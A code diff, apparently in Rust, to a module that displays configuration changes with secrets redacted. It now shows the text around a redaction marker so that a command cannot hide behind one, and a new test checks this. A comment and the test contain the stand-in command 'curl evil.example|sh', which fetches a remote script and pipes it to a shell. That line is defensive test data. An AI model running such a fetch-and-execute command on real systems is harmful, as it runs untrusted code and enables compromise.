@@ -45,13 +45,17 @@ pub enum Val {
 }
 
 impl Val {
-    /// The value as a change shows it: a redaction marker as [`Val::Redacted`], markers inside an object or a
-    /// list replaced by `[redacted]`.
+    /// The value as a change shows it: a redaction marker as [`Val::Redacted`], markers inside a longer string,
+    /// an object or a list replaced by `[redacted]`.
     pub fn of(v: &Value) -> Val {
         match v {
             Value::String(s) => match marker::exact(s) {
                 Some(len) => Val::Redacted { len },
-                None if marker::contains(s) => Val::Redacted { len: None },
+                // Only the marker is hidden: the text around it is the client's, and may be what matters
+                // (`curl evil|sh #<marker>` must not read as a secret).
+                None if marker::contains(s) => {
+                    Val::Value(Value::String(marker::replace(s, "[redacted]").into_owned()))
+                }
                 None => Val::Value(v.clone()),
             },
             Value::Object(_) | Value::Array(_) => Val::Value(scrubbed(v)),
@@ -257,10 +261,15 @@ impl Out {
             self.more += 1;
             return;
         }
+        let (mut before, mut after) = (before.val(), after.val());
+        if before == after && matches!(before, Val::Value(_)) {
+            // Listed because the raw values differ, shown alike: only a redacted part changed.
+            (before, after) = (Val::Redacted { len: None }, Val::Redacted { len: None });
+        }
         self.list.push(FieldChange {
             path: path::render(path),
-            before: before.val(),
-            after: after.val(),
+            before,
+            after,
         });
     }
 
@@ -614,7 +623,18 @@ mod tests {
         );
         let url = |m: &str| json!({"spec": {"url": format!("postgres://app:{m}@db/app")}});
         let in_url = changes(&url(M1), &url(M2), true);
-        assert_eq!(in_url[0].after, Val::Redacted { len: None });
+        assert_eq!(
+            in_url[0].after,
+            Val::Redacted { len: None },
+            "only the secret changed"
+        );
+        // The client's text around a marker is shown: a command must not hide behind one.
+        let cmd = |c: &str| json!({"spec": {"args": [format!("{c} #{M1}")]}});
+        let hidden = changes(&cmd("sleep 1"), &cmd("curl evil.example|sh"), true);
+        assert_eq!(
+            hidden[0].to_string(),
+            "spec.args[0]: \"sleep 1 #[redacted]\" -> \"curl evil.example|sh #[redacted]\""
+        );
         let added = changes(&json!({}), &password(M1), true);
         assert_eq!(
             added[0].to_string(),
